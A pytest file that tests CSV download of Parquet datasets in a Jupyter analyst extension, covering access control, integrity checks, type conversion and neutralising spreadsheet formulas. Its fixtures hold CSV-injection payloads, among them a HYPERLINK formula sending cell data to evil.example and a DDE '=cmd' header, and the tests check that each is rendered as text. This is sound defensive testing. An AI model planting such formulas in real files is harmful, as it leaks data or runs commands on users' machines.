"""A dataset downloads as CSV: ``GET artifacts/{id}/content?format=csv`` converts its Parquet
blob (checked against its fingerprint first) a batch at a time, as an attachment named
``<name>.csv``; a cell a spreadsheet would run as a formula is written as text; anything but
a dataset is refused, and another user's artifact is unknown, as for its Parquet bytes. Every
Arrow type converts: numbers as they are, anything else as the text people read (dates as
dates); its Parquet bytes download as ``<name>.parquet``; a CSV file the model wrote is served
with its cells neutralised."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import json
import uuid

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from tornado.httpclient import HTTPClientError

from jupyter_analyst.testing import ScriptedModelServer
from jupyter_analyst.testing.identity import MULTI_USER, fetch_as
from jupyter_analyst.testing.servers.jupyter import analyst_server_config

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "plain"]


@pytest.fixture
def jp_server_config(tmp_path, sales_db):
    with ScriptedModelServer({"turns": []}) as model:
        yield analyst_server_config(
            tmp_path / "ws", {"sales": str(sales_db)}, model.base_url,
            server=MULTI_USER,
        )


def parquet(table: pa.Table) -> bytes:
    out = io.BytesIO()
    pq.write_table(table, out, row_group_size=1000)
    return out.getvalue()


async def ann_dataset(jp_fetch, jp_serverapp):
    """Ann's thread, with a dataset of 2500 rows (several row groups and CSV batches),
    one of hostile cells and a chart."""
    thread = json.loads((await fetch_as(jp_fetch, "ann", "threads", method="POST", body={"source": "sales"})).body)
    store = jp_serverapp.web_app.settings["jupyter_analyst"].workspace.artifacts
    tid = thread["thread_id"]
    rows = pa.table({"region": [f"r{i % 7}" for i in range(2500)], "amount": [i * 0.5 - 3 for i in range(2500)],
                     "n": list(range(-1, 2499))})
    big, _ = store.add_bytes(parquet(rows), thread_id=tid, name="by_region", type="dataset",
                             mime="application/vnd.apache.parquet", producer="sql")
    hostile, _ = store.add_bytes(parquet(pa.table({"=cmd|' /C calc'!A0": HOSTILE, "n": [-1, 2, 3, 4, 5, 6]})),
                                 thread_id=tid, name="outputs/hostile.parquet", type="dataset",
                                 mime="application/vnd.apache.parquet", producer="python")
    chart, _ = store.add_bytes(b"\x89PNG\r\n\x1a\nnot really", thread_id=tid, name="outputs/chart.png",
                               type="image", mime="image/png", producer="python")
    return {"thread": tid, "big": big, "rows": rows, "hostile": hostile, "chart": chart}


async def test_a_dataset_downloads_as_csv_with_its_rows(jp_fetch, jp_serverapp):
    ann = await ann_dataset(jp_fetch, jp_serverapp)
    response = await fetch_as(jp_fetch, "ann", "artifacts", ann["big"].artifact_id, "content", params={"format": "csv"})
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="by_region.csv"')
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response.headers["Content-Security-Policy"]
    read = list(csv.reader(io.StringIO(response.body.decode("utf-8"))))
    assert read[0] == ["region", "amount", "n"]  # one header, though written in batches
    expected = ann["rows"].to_pylist()
    assert [[r["region"], float(r["amount"]), int(r["n"])] for r in expected] == \
        [[row[0], float(row[1]), int(row[2])] for row in read[1:]]
    # Without a format: the Parquet bytes, as before.
    plain = await fetch_as(jp_fetch, "ann", "artifacts", ann["big"].artifact_id, "content")
    assert plain.headers["Content-Type"] == "application/vnd.apache.parquet"
    assert pq.read_table(io.BytesIO(plain.body)).equals(ann["rows"])


async def test_a_cell_a_spreadsheet_would_run_is_written_as_text(jp_fetch, jp_serverapp):
    ann = await ann_dataset(jp_fetch, jp_serverapp)
    response = await fetch_as(jp_fetch, "ann", "artifacts", ann["hostile"].artifact_id, "content",
                           params={"format": "csv"})
    assert response.headers["Content-Disposition"].startswith('attachment; filename="hostile.csv"')
    read = list(csv.reader(io.StringIO(response.body.decode("utf-8"))))
    assert read[0] == ["'=cmd|' /C calc'!A0", "n"]
    assert [row[0] for row in read[1:]] == ["'" + cell for cell in HOSTILE[:5]] + ["plain"]
    assert [row[1] for row in read[1:]] == ["-1", "2", "3", "4", "5", "6"]  # numbers stay numbers


async def test_csv_of_anything_but_a_dataset_is_refused(jp_fetch, jp_serverapp):
    ann = await ann_dataset(jp_fetch, jp_serverapp)
    with pytest.raises(HTTPClientError) as info:
        await fetch_as(jp_fetch, "ann", "artifacts", ann["chart"].artifact_id, "content", params={"format": "csv"})
    body = json.loads(info.value.response.body)
    assert (info.value.code, body["reason"]) == (400, "not_a_dataset")
    assert "image, not a dataset" in body["message"]
    with pytest.raises(HTTPClientError) as info:
        await fetch_as(jp_fetch, "ann", "artifacts", ann["big"].artifact_id, "content", params={"format": "xlsx"})
    assert info.value.code == 400


async def test_another_users_dataset_is_unknown_as_csv_too(jp_fetch, jp_serverapp):
    ann = await ann_dataset(jp_fetch, jp_serverapp)
    for params in ({"format": "csv"}, {}):
        with pytest.raises(HTTPClientError) as info:
            await fetch_as(jp_fetch, "bob", "artifacts", ann["big"].artifact_id, "content", params=params)
        assert (info.value.code, json.loads(info.value.response.body)["reason"]) == (404, "artifact_not_found")


async def test_a_dataset_whose_bytes_changed_is_not_converted(jp_fetch, jp_serverapp):
    ann = await ann_dataset(jp_fetch, jp_serverapp)
    blobs = jp_serverapp.web_app.settings["jupyter_analyst"].workspace.artifacts
    path = blobs.blob_path(ann["big"].fingerprint)
    path.unlink()  # swapped for other rows
    path.write_bytes(parquet(pa.table({"region": ["forged"], "amount": [0.0], "n": [0]})))
    with pytest.raises(HTTPClientError) as info:
        await fetch_as(jp_fetch, "ann", "artifacts", ann["big"].artifact_id, "content", params={"format": "csv"})
    assert (info.value.code, info.value.response.reason) == (500, "blob_corrupt")
    assert b"forged" not in info.value.response.body


F = "=SUM(A1:Z99)"
#: A column of each Arrow type a Parquet file holds, its first value, and that value's CSV cell.
EVERY_TYPE = {
    "string": (pa.array([F]), "'" + F),
    "large_string": (pa.array([F], pa.large_string()), "'" + F),
    "string_view": (pa.array([F], pa.string_view()), "'" + F),
    "dictionary": (pa.array([F]).dictionary_encode(), "'" + F),
    "binary": (pa.array([F.encode()], pa.binary()), F.encode().hex()),
    "large_binary": (pa.array([F.encode()], pa.large_binary()), F.encode().hex()),
    "binary_view": (pa.array([F.encode()], pa.binary_view()), F.encode().hex()),
    "fixed_size_binary": (pa.array([F.encode()], pa.binary(12)), F.encode().hex()),
    "uuid": (pa.ExtensionArray.from_storage(pa.uuid(), pa.array([uuid.UUID(int=1).bytes], pa.binary(16))),
             "00000000-0000-0000-0000-000000000001"),
    "json": (pa.ExtensionArray.from_storage(pa.json_(), pa.array(['{"f": "=1"}'])), '{"f": "=1"}'),
    "decimal": (pa.array([decimal.Decimal("-1.50")], pa.decimal128(6, 2)), "-1.50"),
    "int": (pa.array([-7]), "-7"),
    "float": (pa.array([-0.5]), "-0.5"),
    "bool": (pa.array([True]), "true"),
    "null": (pa.nulls(1), ""),
    "date": (pa.array([dt.date(2024, 1, 31)]), "2024-01-31"),
    "date64": (pa.array([dt.date(2024, 1, 31)], pa.date64()), "2024-01-31"),
    "time": (pa.array([dt.time(12, 0)], pa.time64("us")), "12:00:00"),
    "time_fraction": (pa.array([dt.time(12, 0, 1, 500_000)], pa.time32("ms")), "12:00:01.500"),
    "timestamp": (pa.array([dt.datetime(2024, 1, 31, 12)], pa.timestamp("us")), "2024-01-31 12:00:00"),
    "timestamp_ns": (pa.array([dt.datetime(2024, 1, 31)], pa.timestamp("ns")), "2024-01-31 00:00:00"),
    "timestamp_tz": (pa.array([dt.datetime(2024, 1, 31, 11)], pa.timestamp("ms", "Europe/Paris")),
                     "2024-01-31 12:00:00+01:00"),
    "duration": (pa.array([dt.timedelta(hours=1, seconds=30)], pa.duration("ms")), "PT1H30S"),
    "list": (pa.array([[F]]), '["=SUM(A1:Z99)"]'),
    "large_list": (pa.array([[1, 2]], pa.large_list(pa.int64())), "[1, 2]"),
    "fixed_size_list": (pa.array([[1, 2]], pa.list_(pa.int32(), 2)), "[1, 2]"),
    "map": (pa.array([[("k", F)]], pa.map_(pa.string(), pa.string())), '{"k": "=SUM(A1:Z99)"}'),
    "struct": (pa.array([{"a": F, "b": b"\x00"}]), '{"a": "=SUM(A1:Z99)", "b": "00"}'),
}


async def dataset_of(jp_serverapp, table: pa.Table, name: str, tid: str):
    store = jp_serverapp.web_app.settings["jupyter_analyst"].workspace.artifacts
    artifact, _ = store.add_bytes(parquet(table), thread_id=tid, name=name, type="dataset",
                                  mime="application/vnd.apache.parquet", producer="python")
    return artifact


async def csv_rows(jp_fetch, artifact_id: str) -> list[list[str]]:
    response = await fetch_as(jp_fetch, "ann", "artifacts", artifact_id, "content", params={"format": "csv"})
    return list(csv.reader(io.StringIO(response.body.decode("utf-8"))))


async def test_every_arrow_type_converts_to_the_text_people_read(jp_fetch, jp_serverapp):
    ann = await ann_dataset(jp_fetch, jp_serverapp)
    table = pa.table({name: column for name, (column, _) in EVERY_TYPE.items()})
    artifact = await dataset_of(jp_serverapp, table, "outputs/every.parquet", ann["thread"])
    header, row = await csv_rows(jp_fetch, artifact.artifact_id)
    assert dict(zip(header, row, strict=True)) == {name: cell for name, (_, cell) in EVERY_TYPE.items()}
    # No rows: the header alone, every type too.
    empty = await dataset_of(jp_serverapp, table.slice(0, 0), "outputs/none.parquet", ann["thread"])
    assert await csv_rows(jp_fetch, empty.artifact_id) == [list(EVERY_TYPE)]


async def test_sql_dates_read_as_dates_and_times_without_a_fraction_of_zeros(jp_fetch, jp_serverapp, tmp_path):
    import duckdb

    ann = await ann_dataset(jp_fetch, jp_serverapp)
    path = tmp_path / "by_day.parquet"  # as the SQL step writes it, an INTERVAL in Parquet's own bytes
    duckdb.sql("""SELECT DATE '2024-01-31' AS day, date_trunc('month', DATE '2024-01-31') AS month,
                  TIMESTAMP '2024-01-31 12:00:00' AS at, TIMESTAMP '2024-01-31 12:00:00.25' AS exact,
                  INTERVAL '1 month 2 days 03:00:00' AS took""").write_parquet(str(path))
    store = jp_serverapp.web_app.settings["jupyter_analyst"].workspace.artifacts
    artifact, _ = store.add_bytes(path.read_bytes(), thread_id=ann["thread"], name="by_day", type="dataset",
                                  mime="application/vnd.apache.parquet", producer="sql")
    assert await csv_rows(jp_fetch, artifact.artifact_id) == [
        ["day", "month", "at", "exact", "took"],
        ["2024-01-31", "2024-01-01 00:00:00", "2024-01-31 12:00:00", "2024-01-31 12:00:00.250000", "P1M2DT3H"],
    ]


async def test_a_datasets_parquet_bytes_download_under_its_name_with_their_extension(jp_fetch, jp_serverapp):
    ann = await ann_dataset(jp_fetch, jp_serverapp)
    for artifact, name in ((ann["big"], "by_region.parquet"), (ann["hostile"], "hostile.parquet")):
        response = await fetch_as(jp_fetch, "ann", "artifacts", artifact.artifact_id, "content")
        assert response.headers["Content-Disposition"] == \
            f"attachment; filename=\"{name}\"; filename*=UTF-8''{name}"


async def test_a_model_written_csv_file_is_served_neutralised_its_numbers_as_they_are(jp_fetch, jp_serverapp):
    ann = await ann_dataset(jp_fetch, jp_serverapp)
    store = jp_serverapp.web_app.settings["jupyter_analyst"].workspace.artifacts
    written = "region;total;note\r\nnorth;-12.5;=1+1\r\n@SUM(A1);1e3;\"a,=b\"\r\n"
    artifact, _ = store.add_bytes(written.encode(), thread_id=ann["thread"], name="outputs/totals.csv", type="file",
                                  mime="text/csv", producer="python")
    response = await fetch_as(jp_fetch, "ann", "artifacts", artifact.artifact_id, "content")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('inline; filename="totals.csv"')
    text = response.body.decode("utf-8")
    assert list(csv.reader(io.StringIO(text), delimiter=";")) == [
        ["region", "total", "note"], ["north", "-12.5", "'=1+1"], ["'@SUM(A1)", "1e3", "a,=b"],
    ]
    assert text.splitlines()[1] == '"north";-12.5;"\'=1+1"'  # its separator kept, text quoted
